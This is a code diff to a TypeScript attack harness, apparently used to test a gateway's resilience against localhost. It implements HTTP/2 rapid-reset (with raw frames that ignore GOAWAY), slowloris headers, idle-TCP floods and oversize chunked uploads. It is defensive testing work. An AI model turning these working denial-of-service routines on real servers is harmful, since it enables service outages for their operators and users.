@@ -4,17 +4,27 @@
  * passes (whichever comes first), then prints one JSON line of counters and exits.
  *
  *   rapid-reset  HTTP/2 with a valid client certificate: open a stream, cancel it at once, again
- *                and again, over a few connections (a connection the server closes is opened again)
+ *                and again, over a few connections (a connection the server closes is opened again).
+ *                Raw frames (test/helpers/h2-raw.ts): node:http2's client drops a request cancelled
+ *                before it was sent, so with it nothing but the attacker's own CPU was spent; here
+ *                each HEADERS really goes out with its RST_STREAM, and GOAWAY is ignored (only the
+ *                connection's close stops a connection)
+ *
+ * Every connection leaves from `localAddress` (another loopback address than the legitimate
+ * client's: the attacker is another source), and the process runs at the lowest CPU priority
+ * (`nice`): on this one machine the attacker's own CPU would otherwise be taken from the product
+ * and the legitimate client, which no gateway can give back; an attacker's CPU is elsewhere.
  *   slow-headers TLS without a certificate, then an HTTP/1.1 request whose headers arrive one byte
  *                at a time and never end (slowloris), over many connections
  *   idle-tcp     TCP connections that never start TLS (the tunnel listener's slowloris, the flood)
  *   upload       HTTP/1.1 with a valid client certificate: chunked uploads that go on past the
  *                body limit (up to `capBytes` each), one after the other on each connection
  */
-import http2 from "node:http2";
+import { setPriority } from "node:os";
 import { connect as netConnect, type Socket } from "node:net";
 import { connect as tlsConnect, type TLSSocket } from "node:tls";
 import { SERVERNAME } from "../gateway/load.ts";
+import { rawH2 } from "../../test/helpers/h2-raw.ts";
 
 export interface AttackJob {
   kind: "rapid-reset" | "slow-headers" | "idle-tcp" | "upload";
@@ -29,6 +39,10 @@ export interface AttackJob {
   byteEveryMs?: number;
   /** upload: bytes sent per upload at most (past the limit). */
   capBytes?: number;
+  /** Source address of every connection (a loopback address); default the system's choice. */
+  localAddress?: string;
+  /** CPU priority of the attacker process (nice, 0-19). */
+  nice?: number;
 }
 
 type Counters = Record<string, number>;
@@ -39,32 +53,27 @@ const counters: Counters = {};
 const bump = (k: string, n = 1): void => void (counters[k] = (counters[k] ?? 0) + n);
 
 function rapidReset(j: AttackJob): Promise<void>[] {
-  const { NGHTTP2_CANCEL } = http2.constants;
   const one = async (): Promise<void> => {
     while (!stopping) {
       bump("sessions");
-      const s = http2.connect(`https://127.0.0.1:${j.port}`, { ...j.tls!, servername: SERVERNAME });
-      const closed = new Promise<void>((r) => s.once("close", r));
-      s.on("error", () => bump("sessionErrors"));
-      s.on("goaway", () => bump("goaways"));
-      const up = await Promise.race([new Promise<boolean>((r) => s.once("connect", () => r(true))), closed.then(() => false)]);
-      while (up && !stopping && !s.closed && !s.destroyed) {
-        // A batch of HEADERS + RST_STREAM pairs, then let the socket flush and read.
-        for (let i = 0; i < 50 && !s.closed && !s.destroyed; i++) {
-          try {
-            const r = s.request({ ":path": j.path! });
-            r.on("error", () => {});
-            r.close(NGHTTP2_CANCEL);
-            bump("streams");
-          } catch {
-            bump("requestErrors");
-            break;
+      const c = await rawH2({ port: j.port, ca: j.tls!.ca, cert: { certPem: j.tls!.cert, keyPem: j.tls!.key }, ...(j.localAddress ? { localAddress: j.localAddress } : {}) }).catch(() => null);
+      if (!c) {
+        bump("connectErrors");
+      } else {
+        while (!stopping && !c.closed) {
+          // A batch of HEADERS + RST_STREAM pairs in one write, then let the socket flush and read;
+          // no more while the kernel has not taken the last batches (bounded memory here).
+          if (c.buffered < 1024 * 1024) {
+            for (let i = 0; i < 50; i++) c.openAndCancel(j.path!);
+            c.flush();
+            bump("streams", 50);
           }
+          await new Promise((r) => setTimeout(r, c.buffered < 1024 * 1024 ? 0 : 5));
         }
-        await new Promise((r) => setImmediate(r));
+        if (c.goaway !== undefined) bump(`goaway ${c.goaway}`);
+        bump("answered", c.answered.size);
+        c.destroy();
       }
-      s.destroy();
-      await closed;
       if (!stopping) await sleep(100); // a bounded reconnect rate
     }
   };
@@ -95,11 +104,12 @@ function holdMany(j: AttackJob, open: (onClose: () => void) => Socket | TLSSocke
   return Array.from({ length: j.conns }, (_, i) => sleep(Math.floor(i / 50) * 50).then(slot));
 }
 const sockets = new Set<Socket>();
+const from = (j: AttackJob): { localAddress?: string } => (j.localAddress ? { localAddress: j.localAddress } : {});
 
 function slowHeaders(j: AttackJob): Promise<void>[] {
   const head = `GET ${j.path} HTTP/1.1\r\nHost: ${SERVERNAME}\r\nUser-Agent: slow\r\nX-Pad: `;
   return holdMany(j, () => {
-    const s = tlsConnect({ host: "127.0.0.1", port: j.port, ca: j.tls!.ca, servername: SERVERNAME, ALPNProtocols: ["http/1.1"] });
+    const s = tlsConnect({ host: "127.0.0.1", port: j.port, ca: j.tls!.ca, servername: SERVERNAME, ALPNProtocols: ["http/1.1"], ...from(j) });
     s.once("secureConnect", () => {
       bump("opened");
       let i = 0;
@@ -119,7 +129,7 @@ function slowHeaders(j: AttackJob): Promise<void>[] {
 
 function idleTcp(j: AttackJob): Promise<void>[] {
   return holdMany(j, () => {
-    const s = netConnect(j.port, "127.0.0.1");
+    const s = netConnect({ port: j.port, host: "127.0.0.1", ...from(j) });
     s.once("connect", () => bump("opened"));
     return s;
   });
@@ -132,7 +142,7 @@ function upload(j: AttackJob): Promise<void>[] {
     while (!stopping) {
       bump("uploads");
       const outcome = await new Promise<string>((resolve) => {
-        const s = tlsConnect({ host: "127.0.0.1", port: j.port, ...j.tls!, servername: SERVERNAME, ALPNProtocols: ["http/1.1"] });
+        const s = tlsConnect({ host: "127.0.0.1", port: j.port, ...j.tls!, servername: SERVERNAME, ALPNProtocols: ["http/1.1"], ...from(j) });
         sockets.add(s);
         let done = false;
         const finish = (why: string): void => {
@@ -172,6 +182,7 @@ function upload(j: AttackJob): Promise<void>[] {
 
 async function main(): Promise<void> {
   const j = JSON.parse(process.argv[2]!) as AttackJob;
+  if (j.nice) setPriority(j.nice);
   const t0 = performance.now();
   const runs: Promise<void>[] = [];
   // The counters go out the moment the attack stops (before the clean-up, which may be slow with
